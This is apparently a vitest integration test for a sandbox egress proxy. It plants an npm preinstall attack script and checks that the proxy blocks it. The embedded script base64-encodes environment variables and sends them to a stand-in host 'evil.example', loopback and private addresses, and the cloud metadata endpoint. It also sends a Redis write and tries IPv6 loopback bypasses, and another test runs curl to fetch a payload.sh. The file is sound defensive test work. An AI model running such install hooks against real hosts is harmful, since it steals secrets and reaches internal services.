import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { mkdir, readFile, writeFile } from 'node:fs/promises';
import { createServer as createHttpServer, type Server as HttpServer } from 'node:http';
import { createServer, type Server } from 'node:net';
import { networkInterfaces } from 'node:os';
import path from 'node:path';
import { Redis } from 'ioredis';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createBwrapSandbox } from '../../../src/sandbox/bwrap-sandbox.js';
import { parseAllowEntry } from '../../../src/sandbox/egress/egress-policy.js';
import type { EgressRefusal } from '../../../src/sandbox/egress/egress-proxy.js';
import { stringsFor } from '../../../src/slack/strings/index.js';
import { runSetup } from '../../../src/verification/run-verification.js';
import { setupEgressLine } from '../../../src/verification/render-verification.js';
import { startRedisServer, type RedisServer } from '../../helpers/redis-server.js';
import { makeTempDir, type TempDir } from '../../helpers/temp-dir.js';

/**
 * Issue 27, part 1: a planted `preinstall` script in a repository's package.json, run by the setup step (`npm install`
 * with network), tries what an attacker would: the host's loopback (a canary listener standing for any local service),
 * Wrench's Redis, the cloud metadata address and a private address of the host, directly and through the proxy it is
 * given. The assertions are on what those saw: the canary got no connection, the Redis key does not exist. The
 * package registry the host is set up with (a fake one on 127.0.0.1, named by npm_config_registry as a local mirror
 * would be) still serves the install.
 */

const ATTACK = String.raw`
const net = require('node:net');
const fs = require('node:fs');
const proxy = new URL(process.env.HTTPS_PROXY || 'http://127.0.0.1:9');
const [canaryPort, redisPort, hostAddress] = process.argv.slice(2);
const redisSet = '*3\r\n$3\r\nSET\r\n$14\r\nwrench:planted\r\n$5\r\npwned\r\n';
function direct(host, port, payload) {
  return new Promise((resolve) => {
    const socket = net.connect({ host, port: Number(port) });
    socket.setTimeout(3000, () => { socket.destroy(); resolve('timeout'); });
    socket.on('error', (error) => resolve('error ' + error.code));
    socket.on('connect', () => { socket.write(payload); setTimeout(() => { socket.destroy(); resolve('connected'); }, 200); });
  });
}
function tunnel(target, payload) {
  return new Promise((resolve) => {
    const socket = net.connect({ host: proxy.hostname, port: Number(proxy.port) });
    let reply = '';
    socket.setTimeout(5000, () => { socket.destroy(); resolve('timeout'); });
    socket.on('error', (error) => resolve('error ' + error.code));
    socket.on('connect', () => socket.write('CONNECT ' + target + ' HTTP/1.1\r\nHost: ' + target + '\r\n\r\n'));
    socket.on('data', (chunk) => {
      reply += chunk;
      if (!reply.includes('\r\n\r\n')) return;
      const status = reply.split(' ')[1];
      if (status === '200') socket.write(payload);
      setTimeout(() => { socket.destroy(); resolve(status); }, 200);
    });
  });
}
function plainHttp(url) {
  return new Promise((resolve) => {
    const socket = net.connect({ host: proxy.hostname, port: Number(proxy.port) });
    let reply = '';
    socket.on('error', (error) => resolve('error ' + error.code));
    socket.on('connect', () => socket.write('GET ' + url + ' HTTP/1.1\r\nHost: ' + new URL(url).host + '\r\nConnection: close\r\n\r\n'));
    socket.on('data', (chunk) => (reply += chunk));
    socket.on('close', () => resolve(reply.split(' ')[1]));
  });
}
(async () => {
  const env = Buffer.from(JSON.stringify(process.env)).toString('base64');
  const seen = {
    directCanary: await direct('127.0.0.1', canaryPort, 'POST / HTTP/1.0\r\n\r\n' + env),
    directRedis: await direct('127.0.0.1', redisPort, redisSet),
    directHostAddress: await direct(hostAddress, canaryPort, env),
    directMetadata: await direct('169.254.169.254', 80, 'GET / HTTP/1.0\r\n\r\n'),
    proxyCanary: await tunnel('127.0.0.1:' + canaryPort, env),
    proxyCanaryByName: await tunnel('localhost:' + canaryPort, env),
    proxyCanaryV6: await tunnel('[::ffff:127.0.0.1]:' + canaryPort, env),
    proxyRedis: await tunnel('127.0.0.1:' + redisPort, redisSet),
    proxyHostAddress: await tunnel(hostAddress + ':' + canaryPort, env),
    proxyMetadata: await tunnel('169.254.169.254:80', 'GET / HTTP/1.0\r\n\r\n'),
    proxyPrivate: await tunnel('10.0.0.1:443', env),
    proxyNotListed: await tunnel('evil.example:443', env),
    plainHttpCanary: await plainHttp('http://127.0.0.1:' + canaryPort + '/steal'),
    plainHttpMetadata: await plainHttp('http://169.254.169.254/latest/meta-data/'),
  };
  fs.writeFileSync('attack-results.json', JSON.stringify(seen));
})();
`;

describe('setup egress: a planted install script against the host (real bwrap, real Redis)', () => {
  let workspace: TempDir;
  let canary: Server;
  let canaryPort: number;
  const canaryConnections: string[] = [];
  let redis: RedisServer;
  let registry: HttpServer;
  let registryUrl: string;
  const registryRequests: string[] = [];
  const refusals: EgressRefusal[] = [];
  const savedRegistry = process.env.npm_config_registry;
  const hostAddress = hostPrivateAddress();

  beforeAll(async () => {
    workspace = await makeTempDir('wrench-egress-');
    canary = createServer((socket) => {
      canaryConnections.push(`${socket.remoteAddress}`);
      socket.destroy();
    });
    await new Promise<void>((resolve) => canary.listen(0, '0.0.0.0', resolve));
    canaryPort = (canary.address() as { port: number }).port;
    redis = await startRedisServer();
    ({ server: registry, url: registryUrl } = await startFakeRegistry(workspace.path, registryRequests));
    // The host's own npm registry setting (a local mirror): the sandboxed install uses it and the proxy lets it through.
    process.env.npm_config_registry = registryUrl;
    await writeFile(path.join(workspace.path, 'attack.js'), ATTACK);
    await writeFile(
      path.join(workspace.path, 'package.json'),
      JSON.stringify({
        name: 'victim',
        version: '1.0.0',
        scripts: { preinstall: `node attack.js ${canaryPort} ${redis.port} ${hostAddress}` },
        dependencies: { 'tiny-dep': '1.0.0' },
      }),
    );
  }, 30_000);

  afterAll(async () => {
    if (savedRegistry === undefined) delete process.env.npm_config_registry;
    else process.env.npm_config_registry = savedRegistry;
    await new Promise<void>((resolve) => canary.close(() => resolve()));
    await new Promise<void>((resolve) => registry.close(() => resolve()));
    await redis.stop();
    await workspace.remove();
  });

  it('refuses every way to the host and the metadata address, and still installs from the allowed registry', async () => {
    const sandbox = createBwrapSandbox({ root: workspace.path, onEgressRefused: (refusal) => refusals.push(refusal) });
    const setup = await runSetup({ sandbox, dir: workspace.path, commands: { setup: 'npm install --no-audit --no-fund', sources: [] }, timeoutMs: 60_000 });

    // What the outside world saw: the canary had no visitor, Redis has no planted key.
    expect(canaryConnections).toEqual([]);
    const client = new Redis(redis.url, { lazyConnect: true, maxRetriesPerRequest: 1 });
    try {
      expect(await client.exists('wrench:planted')).toBe(0);
    } finally {
      client.disconnect();
    }
    // The allowed registry served the install.
    expect(setup?.passed).toBe(true);
    expect(registryRequests).toEqual(expect.arrayContaining(['GET /tiny-dep', 'GET /tiny-dep/-/tiny-dep-1.0.0.tgz']));
    expect(readFileSync(path.join(workspace.path, 'node_modules', 'tiny-dep', 'index.js'), 'utf8')).toContain('tiny');

    const seen = JSON.parse(await readFile(path.join(workspace.path, 'attack-results.json'), 'utf8'));
    expect(seen.directCanary).toMatch(/^error/);
    expect(seen.directRedis).toMatch(/^error/);
    expect(seen.directHostAddress).toMatch(/^error/);
    expect(seen.directMetadata).toMatch(/^error/);
    for (const key of [
      'proxyCanary',
      'proxyCanaryByName',
      'proxyCanaryV6',
      'proxyRedis',
      'proxyHostAddress',
      'proxyMetadata',
      'proxyPrivate',
      'proxyNotListed',
      'plainHttpCanary',
      'plainHttpMetadata',
    ])
      expect([key, seen[key]]).toEqual([key, '403']);
    expect(refusals.map((refusal) => `${refusal.host}:${refusal.port}`)).toEqual(
      expect.arrayContaining([`127.0.0.1:${canaryPort}`, `127.0.0.1:${redis.port}`, '169.254.169.254:80', '10.0.0.1:443', 'evil.example:443']),
    );
    expect(setup?.egressRefused?.length).toBe(refusals.length);
  }, 90_000);

  it('checks the address a listed name resolves to: a name that resolves to 127.0.0.1 is refused', async () => {
    const seen: EgressRefusal[] = [];
    const sandbox = createBwrapSandbox({ root: workspace.path, egressAllow: [parseAllowEntry('localhost')], onEgressRefused: (r) => seen.push(r) });
    const result = await sandbox.exec(
      `curl -sS -m 5 --noproxy '' -o /dev/null https://localhost:443/ ; curl -sS -m 5 --noproxy '' http://localhost:${canaryPort}/`,
      {
        cwd: workspace.path,
        timeoutMs: 20_000,
        network: true,
      },
    );
    expect(canaryConnections).toEqual([]);
    expect(seen[0]).toMatchObject({ host: 'localhost', port: 443, reason: 'non-public-address', address: '127.0.0.1' });
    expect(result.output).toContain('CONNECT tunnel failed, response 403');
    expect(seen[1]).toMatchObject({ host: 'localhost', port: canaryPort, reason: 'not-allowed' });
  }, 30_000);

  it('lets the agent reach public hosts under policy `on`, never the host (loopback or its own addresses) or private ranges', async () => {
    const seen: EgressRefusal[] = [];
    const sandbox = createBwrapSandbox({ root: workspace.path, onEgressRefused: (r) => seen.push(r) });
    const result = await sandbox.exec(
      `curl -sS -m 5 --noproxy '' http://127.0.0.1:${canaryPort}/ ; curl -sS -m 5 --noproxy '' http://${hostAddress}:${canaryPort}/; curl -sS -m 20 -o /dev/null -w 'public %{http_code}\\n' https://registry.npmjs.org/is-number`,
      { cwd: workspace.path, timeoutMs: 20_000, network: true, egress: 'public' },
    );
    expect(canaryConnections).toEqual([]);
    expect(result.output).toContain('public 200');
    expect(seen.map((r) => r.reason)).toEqual(['non-public-address', 'non-public-address']);
  }, 30_000);

  it('refuses loopback written as an IPv6 address that embeds it (compatible, translated, 6to4, NAT64, Teredo)', async () => {
    const seen: EgressRefusal[] = [];
    const sandbox = createBwrapSandbox({ root: workspace.path, onEgressRefused: (r) => seen.push(r) });
    const hosts = ['::127.0.0.1', '::ffff:0:127.0.0.1', '2002:7f00:1::', '64:ff9b::7f00:1', '2001:0:4136:e378:8000:63bf:80ff:fffe'];
    const result = await sandbox.exec(
      hosts.map((host) => `curl -sS -m 5 -o /dev/null -w '${host} %{http_code}\\n' http://[${host}]:${canaryPort}/`).join('; '),
      { cwd: workspace.path, timeoutMs: 30_000, network: true, egress: 'public' },
    );
    expect(canaryConnections).toEqual([]);
    for (const host of hosts) expect(result.output).toContain(`${host} 403`);
    // curl writes some of them shorter (::7f00:1): one refusal each, for the address, none for the allow list.
    expect(seen.map((r) => r.reason)).toEqual(hosts.map(() => 'non-public-address'));
  }, 40_000);

  it('says in one line why a setup failed on the policy', async () => {
    const dir = path.join(workspace.path, 'blocked');
    await mkdir(dir, { recursive: true });
    const sandbox = createBwrapSandbox({ root: workspace.path });
    const setup = await runSetup({ sandbox, dir, commands: { setup: 'curl -sSf -m 5 https://evil.example/payload.sh', sources: [] }, timeoutMs: 20_000 });
    expect(setup?.passed).toBe(false);
    expect(setupEgressLine(setup!.egressRefused)).toBe('Setup could not reach evil.example:443: not in the egress allow list (sandbox.egress.allow).');
    // A German or Japanese thread says it in its words; the host and the setting stay as they are.
    expect(setupEgressLine(setup!.egressRefused, stringsFor('de').verification)).toBe(
      'Die Installation konnte dieses Ziel nicht erreichen: evil.example:443: nicht in der Liste erlaubter Ziele (sandbox.egress.allow).',
    );
    expect(setupEgressLine(setup!.egressRefused, stringsFor('ja').verification)).toBe(
      'セットアップは次の接続先に到達できませんでした: evil.example:443: 送信先の許可リスト(sandbox.egress.allow)にありません。',
    );
  }, 30_000);
});

/** An address of this machine other than loopback (a private one on most hosts), where the canary also listens. */
function hostPrivateAddress(): string {
  const found = Object.values(networkInterfaces())
    .flat()
    .find((entry) => entry && entry.family === 'IPv4' && !entry.internal);
  return found?.address ?? '10.0.0.2';
}

/** A package registry on 127.0.0.1 serving one package, tiny-dep@1.0.0, as npm's registry API does. */
async function startFakeRegistry(workDir: string, requests: string[]): Promise<{ server: HttpServer; url: string }> {
  const packageDir = path.join(workDir, '.registry', 'package');
  await mkdir(packageDir, { recursive: true });
  await writeFile(path.join(packageDir, 'package.json'), JSON.stringify({ name: 'tiny-dep', version: '1.0.0', main: 'index.js' }));
  await writeFile(path.join(packageDir, 'index.js'), "module.exports = 'tiny';\n");
  const tarball = path.join(workDir, '.registry', 'tiny-dep-1.0.0.tgz');
  execFileSync('tar', ['-czf', tarball, '-C', path.dirname(packageDir), 'package']);
  const bytes = readFileSync(tarball);
  const server = createHttpServer((req, res) => {
    requests.push(`${req.method} ${req.url}`);
    const url = `http://127.0.0.1:${(server.address() as { port: number }).port}`;
    if (req.url === '/tiny-dep') {
      const dist = {
        tarball: `${url}/tiny-dep/-/tiny-dep-1.0.0.tgz`,
        shasum: createHash('sha1').update(bytes).digest('hex'),
        integrity: `sha512-${createHash('sha512').update(bytes).digest('base64')}`,
      };
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ name: 'tiny-dep', 'dist-tags': { latest: '1.0.0' }, versions: { '1.0.0': { name: 'tiny-dep', version: '1.0.0', dist } } }));
    } else if (req.url === '/tiny-dep/-/tiny-dep-1.0.0.tgz') {
      res.writeHead(200, { 'content-type': 'application/octet-stream' });
      res.end(bytes);
    } else {
      res.writeHead(404).end('{}');
    }
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return { server, url: `http://127.0.0.1:${(server.address() as { port: number }).port}/` };
}
